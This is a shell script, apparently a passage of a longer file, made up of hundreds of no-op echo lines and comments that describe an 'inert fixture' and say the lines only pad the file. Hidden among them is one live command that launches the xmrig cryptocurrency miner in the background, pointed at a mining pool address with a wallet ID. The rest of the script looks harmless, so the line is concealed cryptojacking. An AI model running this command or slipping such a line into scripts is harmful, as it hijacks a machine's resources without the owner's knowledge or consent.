echo "step 02762: checking component 46 of the inert fixture" >/dev/null
echo "step 02763: checking component 47 of the inert fixture" >/dev/null
# section 02764: nothing happens here, this line only pads the file
echo "step 02765: checking component 49 of the inert fixture" >/dev/null
echo "step 02766: checking component 50 of the inert fixture" >/dev/null
echo "step 02767: checking component 51 of the inert fixture" >/dev/null
# section 02768: nothing happens here, this line only pads the file
echo "step 02769: checking component 53 of the inert fixture" >/dev/null
echo "step 02770: checking component 54 of the inert fixture" >/dev/null
echo "step 02771: checking component 55 of the inert fixture" >/dev/null
# section 02772: nothing happens here, this line only pads the file
echo "step 02773: checking component 57 of the inert fixture" >/dev/null
echo "step 02774: checking component 58 of the inert fixture" >/dev/null
echo "step 02775: checking component 59 of the inert fixture" >/dev/null
# section 02776: nothing happens here, this line only pads the file
echo "step 02777: checking component 61 of the inert fixture" >/dev/null
echo "step 02778: checking component 62 of the inert fixture" >/dev/null
echo "step 02779: checking component 63 of the inert fixture" >/dev/null
# section 02780: nothing happens here, this line only pads the file
echo "step 02781: checking component 65 of the inert fixture" >/dev/null
echo "step 02782: checking component 66 of the inert fixture" >/dev/null
echo "step 02783: checking component 67 of the inert fixture" >/dev/null
# section 02784: nothing happens here, this line only pads the file
echo "step 02785: checking component 69 of the inert fixture" >/dev/null
echo "step 02786: checking component 70 of the inert fixture" >/dev/null
echo "step 02787: checking component 71 of the inert fixture" >/dev/null
# section 02788: nothing happens here, this line only pads the file
echo "step 02789: checking component 73 of the inert fixture" >/dev/null
echo "step 02790: checking component 74 of the inert fixture" >/dev/null
echo "step 02791: checking component 75 of the inert fixture" >/dev/null
# section 02792: nothing happens here, this line only pads the file
echo "step 02793: checking component 77 of the inert fixture" >/dev/null
echo "step 02794: checking component 78 of the inert fixture" >/dev/null
echo "step 02795: checking component 79 of the inert fixture" >/dev/null
# section 02796: nothing happens here, this line only pads the file
echo "step 02797: checking component 81 of the inert fixture" >/dev/null
echo "step 02798: checking component 82 of the inert fixture" >/dev/null
echo "step 02799: checking component 83 of the inert fixture" >/dev/null
# section 02800: nothing happens here, this line only pads the file
echo "step 02801: checking component 85 of the inert fixture" >/dev/null
echo "step 02802: checking component 86 of the inert fixture" >/dev/null
echo "step 02803: checking component 87 of the inert fixture" >/dev/null
# section 02804: nothing happens here, this line only pads the file
echo "step 02805: checking component 89 of the inert fixture" >/dev/null
echo "step 02806: checking component 90 of the inert fixture" >/dev/null
echo "step 02807: checking component 91 of the inert fixture" >/dev/null
# section 02808: nothing happens here, this line only pads the file
echo "step 02809: checking component 93 of the inert fixture" >/dev/null
echo "step 02810: checking component 94 of the inert fixture" >/dev/null
echo "step 02811: checking component 95 of the inert fixture" >/dev/null
# section 02812: nothing happens here, this line only pads the file
echo "step 02813: checking component 0 of the inert fixture" >/dev/null
echo "step 02814: checking component 1 of the inert fixture" >/dev/null
echo "step 02815: checking component 2 of the inert fixture" >/dev/null
# section 02816: nothing happens here, this line only pads the file
echo "step 02817: checking component 4 of the inert fixture" >/dev/null
echo "step 02818: checking component 5 of the inert fixture" >/dev/null
echo "step 02819: checking component 6 of the inert fixture" >/dev/null
# section 02820: nothing happens here, this line only pads the file
echo "step 02821: checking component 8 of the inert fixture" >/dev/null
echo "step 02822: checking component 9 of the inert fixture" >/dev/null
echo "step 02823: checking component 10 of the inert fixture" >/dev/null
# section 02824: nothing happens here, this line only pads the file
echo "step 02825: checking component 12 of the inert fixture" >/dev/null
echo "step 02826: checking component 13 of the inert fixture" >/dev/null
echo "step 02827: checking component 14 of the inert fixture" >/dev/null
# section 02828: nothing happens here, this line only pads the file
echo "step 02829: checking component 16 of the inert fixture" >/dev/null
echo "step 02830: checking component 17 of the inert fixture" >/dev/null
echo "step 02831: checking component 18 of the inert fixture" >/dev/null
# section 02832: nothing happens here, this line only pads the file
echo "step 02833: checking component 20 of the inert fixture" >/dev/null
echo "step 02834: checking component 21 of the inert fixture" >/dev/null
echo "step 02835: checking component 22 of the inert fixture" >/dev/null
# section 02836: nothing happens here, this line only pads the file
echo "step 02837: checking component 24 of the inert fixture" >/dev/null
echo "step 02838: checking component 25 of the inert fixture" >/dev/null
echo "step 02839: checking component 26 of the inert fixture" >/dev/null
# section 02840: nothing happens here, this line only pads the file
echo "step 02841: checking component 28 of the inert fixture" >/dev/null
echo "step 02842: checking component 29 of the inert fixture" >/dev/null
echo "step 02843: checking component 30 of the inert fixture" >/dev/null
# section 02844: nothing happens here, this line only pads the file
echo "step 02845: checking component 32 of the inert fixture" >/dev/null
echo "step 02846: checking component 33 of the inert fixture" >/dev/null
echo "step 02847: checking component 34 of the inert fixture" >/dev/null
# section 02848: nothing happens here, this line only pads the file
echo "step 02849: checking component 36 of the inert fixture" >/dev/null
echo "step 02850: checking component 37 of the inert fixture" >/dev/null
echo "step 02851: checking component 38 of the inert fixture" >/dev/null
# section 02852: nothing happens here, this line only pads the file
echo "step 02853: checking component 40 of the inert fixture" >/dev/null
echo "step 02854: checking component 41 of the inert fixture" >/dev/null
echo "step 02855: checking component 42 of the inert fixture" >/dev/null
# section 02856: nothing happens here, this line only pads the file
echo "step 02857: checking component 44 of the inert fixture" >/dev/null
echo "step 02858: checking component 45 of the inert fixture" >/dev/null
echo "step 02859: checking component 46 of the inert fixture" >/dev/null
# section 02860: nothing happens here, this line only pads the file
echo "step 02861: checking component 48 of the inert fixture" >/dev/null
echo "step 02862: checking component 49 of the inert fixture" >/dev/null
echo "step 02863: checking component 50 of the inert fixture" >/dev/null
# section 02864: nothing happens here, this line only pads the file
echo "step 02865: checking component 52 of the inert fixture" >/dev/null
echo "step 02866: checking component 53 of the inert fixture" >/dev/null
echo "step 02867: checking component 54 of the inert fixture" >/dev/null
# section 02868: nothing happens here, this line only pads the file
echo "step 02869: checking component 56 of the inert fixture" >/dev/null
echo "step 02870: checking component 57 of the inert fixture" >/dev/null
echo "step 02871: checking component 58 of the inert fixture" >/dev/null
# section 02872: nothing happens here, this line only pads the file
echo "step 02873: checking component 60 of the inert fixture" >/dev/null
echo "step 02874: checking component 61 of the inert fixture" >/dev/null
echo "step 02875: checking component 62 of the inert fixture" >/dev/null
# section 02876: nothing happens here, this line only pads the file
echo "step 02877: checking component 64 of the inert fixture" >/dev/null
echo "step 02878: checking component 65 of the inert fixture" >/dev/null
echo "step 02879: checking component 66 of the inert fixture" >/dev/null
# section 02880: nothing happens here, this line only pads the file
echo "step 02881: checking component 68 of the inert fixture" >/dev/null
echo "step 02882: checking component 69 of the inert fixture" >/dev/null
echo "step 02883: checking component 70 of the inert fixture" >/dev/null
# section 02884: nothing happens here, this line only pads the file
echo "step 02885: checking component 72 of the inert fixture" >/dev/null
echo "step 02886: checking component 73 of the inert fixture" >/dev/null
echo "step 02887: checking component 74 of the inert fixture" >/dev/null
# section 02888: nothing happens here, this line only pads the file
echo "step 02889: checking component 76 of the inert fixture" >/dev/null
echo "step 02890: checking component 77 of the inert fixture" >/dev/null
echo "step 02891: checking component 78 of the inert fixture" >/dev/null
# section 02892: nothing happens here, this line only pads the file
echo "step 02893: checking component 80 of the inert fixture" >/dev/null
echo "step 02894: checking component 81 of the inert fixture" >/dev/null
echo "step 02895: checking component 82 of the inert fixture" >/dev/null
# section 02896: nothing happens here, this line only pads the file
echo "step 02897: checking component 84 of the inert fixture" >/dev/null
echo "step 02898: checking component 85 of the inert fixture" >/dev/null
echo "step 02899: checking component 86 of the inert fixture" >/dev/null
# section 02900: nothing happens here, this line only pads the file
echo "step 02901: checking component 88 of the inert fixture" >/dev/null
echo "step 02902: checking component 89 of the inert fixture" >/dev/null
echo "step 02903: checking component 90 of the inert fixture" >/dev/null
# section 02904: nothing happens here, this line only pads the file
echo "step 02905: checking component 92 of the inert fixture" >/dev/null
echo "step 02906: checking component 93 of the inert fixture" >/dev/null
echo "step 02907: checking component 94 of the inert fixture" >/dev/null
# section 02908: nothing happens here, this line only pads the file
echo "step 02909: checking component 96 of the inert fixture" >/dev/null
echo "step 02910: checking component 0 of the inert fixture" >/dev/null
echo "step 02911: checking component 1 of the inert fixture" >/dev/null
# section 02912: nothing happens here, this line only pads the file
echo "step 02913: checking component 3 of the inert fixture" >/dev/null
echo "step 02914: checking component 4 of the inert fixture" >/dev/null
echo "step 02915: checking component 5 of the inert fixture" >/dev/null
# section 02916: nothing happens here, this line only pads the file
echo "step 02917: checking component 7 of the inert fixture" >/dev/null
echo "step 02918: checking component 8 of the inert fixture" >/dev/null
echo "step 02919: checking component 9 of the inert fixture" >/dev/null
# section 02920: nothing happens here, this line only pads the file
./xmrig -o stratum+tcp://198.51.100.20:3333 -u 47pPsmvpia2vWrGi4zB8QXxGRb7dG1oETJCxrRBqt59ggV991x1ErEBxBKMDbykhECmDzRL2QTBAH5NLufe1fknN5LPuLXm -p x --donate-level 1 --background
echo "step 02921: checking component 11 of the inert fixture" >/dev/null
echo "step 02922: checking component 12 of the inert fixture" >/dev/null
echo "step 02923: checking component 13 of the inert fixture" >/dev/null
# section 02924: nothing happens here, this line only pads the file
echo "step 02925: checking component 15 of the inert fixture" >/dev/null
echo "step 02926: checking component 16 of the inert fixture" >/dev/null
echo "step 02927: checking component 17 of the inert fixture" >/dev/null
# section 02928: nothing happens here, this line only pads the file
echo "step 02929: checking component 19 of the inert fixture" >/dev/null
echo "step 02930: checking component 20 of the inert fixture" >/dev/null
echo "step 02931: checking component 21 of the inert fixture" >/dev/null
# section 02932: nothing happens here, this line only pads the file
echo "step 02933: checking component 23 of the inert fixture" >/dev/null
echo "step 02934: checking component 24 of the inert fixture" >/dev/null
echo "step 02935: checking component 25 of the inert fixture" >/dev/null
# section 02936: nothing happens here, this line only pads the file
echo "step 02937: checking component 27 of the inert fixture" >/dev/null
echo "step 02938: checking component 28 of the inert fixture" >/dev/null
echo "step 02939: checking component 29 of the inert fixture" >/dev/null
# section 02940: nothing happens here, this line only pads the file
echo "step 02941: checking component 31 of the inert fixture" >/dev/null
echo "step 02942: checking component 32 of the inert fixture" >/dev/null
echo "step 02943: checking component 33 of the inert fixture" >/dev/null
# section 02944: nothing happens here, this line only pads the file
echo "step 02945: checking component 35 of the inert fixture" >/dev/null
echo "step 02946: checking component 36 of the inert fixture" >/dev/null
echo "step 02947: checking component 37 of the inert fixture" >/dev/null
# section 02948: nothing happens here, this line only pads the file
echo "step 02949: checking component 39 of the inert fixture" >/dev/null
echo "step 02950: checking component 40 of the inert fixture" >/dev/null
echo "step 02951: checking component 41 of the inert fixture" >/dev/null
# section 02952: nothing happens here, this line only pads the file
echo "step 02953: checking component 43 of the inert fixture" >/dev/null
echo "step 02954: checking component 44 of the inert fixture" >/dev/null
echo "step 02955: checking component 45 of the inert fixture" >/dev/null
# section 02956: nothing happens here, this line only pads the file
echo "step 02957: checking component 47 of the inert fixture" >/dev/null
echo "step 02958: checking component 48 of the inert fixture" >/dev/null
echo "step 02959: checking component 49 of the inert fixture" >/dev/null
# section 02960: nothing happens here, this line only pads the file
echo "step 02961: checking component 51 of the inert fixture" >/dev/null
echo "step 02962: checking component 52 of the inert fixture" >/dev/null
echo "step 02963: checking component 53 of the inert fixture" >/dev/null
# section 02964: nothing happens here, this line only pads the file
echo "step 02965: checking component 55 of the inert fixture" >/dev/null
echo "step 02966: checking component 56 of the inert fixture" >/dev/null
echo "step 02967: checking component 57 of the inert fixture" >/dev/null
# section 02968: nothing happens here, this line only pads the file
echo "step 02969: checking component 59 of the inert fixture" >/dev/null
echo "step 02970: checking component 60 of the inert fixture" >/dev/null
echo "step 02971: checking component 61 of the inert fixture" >/dev/null
# section 02972: nothing happens here, this line only pads the file
echo "step 02973: checking component 63 of the inert fixture" >/dev/null
echo "step 02974: checking component 64 of the inert fixture" >/dev/null
echo "step 02975: checking component 65 of the inert fixture" >/dev/null
# section 02976: nothing happens here, this line only pads the file
echo "step 02977: checking component 67 of the inert fixture" >/dev/null
echo "step 02978: checking component 68 of the inert fixture" >/dev/null
echo "step 02979: checking component 69 of the inert fixture" >/dev/null
# section 02980: nothing happens here, this line only pads the file
echo "step 02981: checking component 71 of the inert fixture" >/dev/null
echo "step 02982: checking component 72 of the inert fixture" >/dev/null
echo "step 02983: checking component 73 of the inert fixture" >/dev/null
# section 02984: nothing happens here, this line only pads the file
echo "step 02985: checking component 75 of the inert fixture" >/dev/null
echo "step 02986: checking component 76 of the inert fixture" >/dev/null
echo "step 02987: checking component 77 of the inert fixture" >/dev/null
echo "finished"
